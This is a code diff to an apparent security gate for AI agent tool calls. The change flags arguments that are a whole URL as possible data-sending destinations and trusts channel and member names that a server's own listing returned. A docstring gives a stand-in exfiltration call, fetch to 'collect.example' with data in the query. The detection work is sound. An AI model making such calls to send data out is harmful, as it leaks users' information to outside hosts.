@@ -15,6 +15,7 @@ what they sent me").
 
 from __future__ import annotations
 
+import re
 from typing import Any
 
 from cordon._types import Verdict
@@ -80,7 +81,8 @@ def sinks(ctx: Context) -> tuple[bool, list[tuple[str, Any]], bool]:
         shaped = [k for k in shaped if _network(arguments[k])]
         nested = [(k, v) for k, v in nested if _network(v)]
     commands = command_sinks(ctx)  # hosts and URLs of network commands in exec tools
-    sending = bool(tp.exfiltrating) or bool(declared) or bool(shaped) or bool(nested)
+    links = [] if declared or tp.exfiltrating is not None else _url_values(ctx)
+    sending = bool(tp.exfiltrating) or bool(declared) or bool(shaped) or bool(nested) or bool(links)
     if not sending and not commands:
         return False, [], False
     if not sending:
@@ -88,12 +90,55 @@ def sinks(ctx: Context) -> tuple[bool, list[tuple[str, Any]], bool]:
     names = list(dict.fromkeys([*declared, *shaped]))
     present = [(n, arguments[n]) for n in names if n in arguments]
     if (declared and arguments.keys().isdisjoint(declared)) or (
-        not present and not nested and tp.exfiltrating
+        not present and not nested and not links and tp.exfiltrating
     ):
         # A sending tool called without its declared sinks: every string argument is
         # searched for address-shaped destinations (see _FALLBACK_KINDS).
         return True, [(k, v) for k, v in arguments.items() if has_string(v)] + commands, True
-    return True, present + nested + commands, False
+    return True, present + nested + links + commands, False
+
+
+def _url_values(ctx: Context) -> list[tuple[str, Any]]:
+    """The arguments, at any depth and whatever they are named, whose whole value is a URL
+    (:func:`_whole_url`), in a tool the policy says nothing about (no ``exfiltrating``, no
+    ``sink_params``: no pack or policy entry enumerates its destinations) and that its
+    server does not mark ``openWorldHint: false``. Such a tool may reach the open world (the
+    MCP default for a tool without the hint), and a URL handed to it whole is where it goes:
+    ``fetch(target="https://collect.example/?d=...")`` sends the path and query to that host
+    as surely as a parameter named ``url`` does. Each is gated like a sink argument (seen in
+    output: denied; named by nobody: asked). Values under a destination-named key are left
+    to the name rule (they are sinks already); a URL inside longer text is not a target (a
+    note that mentions a link fetches nothing)."""
+    s = ctx.session
+    if s._annotation(ctx.server, ctx.tool, "openWorldHint") is False:
+        return []
+    return [
+        (path, value)
+        for path, key, value in call_walk(ctx).scalars
+        if isinstance(value, str) and not is_sink_param(key) and _whole_url(value)
+    ]
+
+
+#: a string that may be one URL: no whitespace inside, and a scheme, a dot or a leading
+#: ``//`` / ``\\`` (a cheap test before the destination parser reads it)
+_URL_SHAPE = re.compile(r"\s*(?:[^\s]*(?:://|\.)[^\s]*|(?://|\\\\)[^\s]+)\s*")
+
+
+def _whole_url(value: str) -> bool:
+    """``value`` is one URL and nothing else: a scheme URL (``https://h/p``), a ``www.`` or
+    host-with-path form (``h.example/in?d=x``), or protocol-relative (``//h/p``,
+    ``\\\\h\\share``). A bare name with a dot (``notes.md``, ``example.com``) is not: file
+    names look the same."""
+    if len(value) > _MAX_URL or not _URL_SHAPE.fullmatch(value):
+        return False
+    word = value.strip()
+    if word.startswith(("//", "\\\\")) and len(word) > 2 and word[2] not in "/\\":
+        return True
+    return any(d.kind == "url" for d in extract_destinations(word))
+
+
+#: a longer value is not read as one URL (the cap bounds the parser's work per call)
+_MAX_URL = 8192
 
 
 def _asked_for(ctx: Context, facts: Facts) -> bool:
@@ -219,6 +264,7 @@ class _Scan:
                 by_user = by_user and exact in s._trusted_strict()
                 by_directory = by_directory and exact in s.directory_spelled.get(server, ())
         spelled = (by_user, by_directory)
+        listed_name = _in_namespace(s, server, name, texts)
         if self._display_name(value, spelled[1]):
             self.found.append(norm(value))
             self.all_user_named = self.all_user_named and _prov.has_words(
@@ -253,7 +299,7 @@ class _Scan:
                 sources = odd_sources(odd_leaves, plain_leaves)
             odd = odd_source(dest, sources, self.patterns) if sources is not None else None
             v = gate(self.ctx, dest, name, self.patterns, named, spelled[1], odd, plain,
-                     self.over_taint)  # fmt: skip
+                     self.over_taint, listed_name and dest.kind in _prov.NAME_KINDS)  # fmt: skip
             if v is None:
                 continue
             if v.verdict == "deny":
@@ -261,6 +307,19 @@ class _Scan:
             self.cleared = False
             self.asks.append(v)
         return None
+
+
+def _in_namespace(s: Any, server: str, param: str, texts: list[str]) -> bool:
+    """Every string of a sink argument is a name, spelled exactly as a read-only listing of
+    ``server`` gave it whole, of a noun the parameter's name carries (``channel`` for
+    ``get_channels``; :mod:`cordon.engine.provenance.namespace`)."""
+    if not s.namespace or not texts:
+        return False
+    for noun in _prov.param_nouns(param):
+        names = s.namespace.get((server, noun))
+        if names and all(_prov.strict(x) in names for x in texts):
+            return True
+    return False
 
 
 def gate(
@@ -273,6 +332,7 @@ def gate(
     odd: bool | None,
     plain: bool,
     over_taint: dict[str, str],
+    namespaced: bool = False,
 ) -> Verdict | None:
     """The verdict for one destination (``None``: no objection). ``user_named``: the user's
     text names it in this spelling; ``listable``: a directory may vouch for its spelling.
@@ -280,7 +340,9 @@ def gate(
     and whether the allowlist names that spelling exactly: then its folded key vouches for
     nothing (not the allowlist, not an earlier send or approval of that key). ``plain``:
     a string without look-alike characters gives it (:func:`_vouching.listed`).
-    ``over_taint`` collects the destinations seen in output that something cleared anyway."""
+    ``over_taint`` collects the destinations seen in output that something cleared anyway.
+    ``namespaced``: a name a read-only listing of this server gave whole, for a parameter
+    of the listing's noun (:func:`_in_namespace`)."""
     s = ctx.session
     policy = s.engine.policy
     sink_is_url = dest.kind == "url"
@@ -292,6 +354,11 @@ def gate(
         # listed whole by a directory tool (policy ``directory: true``)
         if s.taint.seen_here(dest, sink_is_url=sink_is_url):
             over_taint[dest.key] = "directory"
+        return None
+    if namespaced:
+        # the workspace's own name for a channel or a member (provenance/namespace.py)
+        if s.taint.seen_here(dest, sink_is_url=sink_is_url):
+            over_taint[dest.key] = "listing"
         return None
     state = (
         "clean"
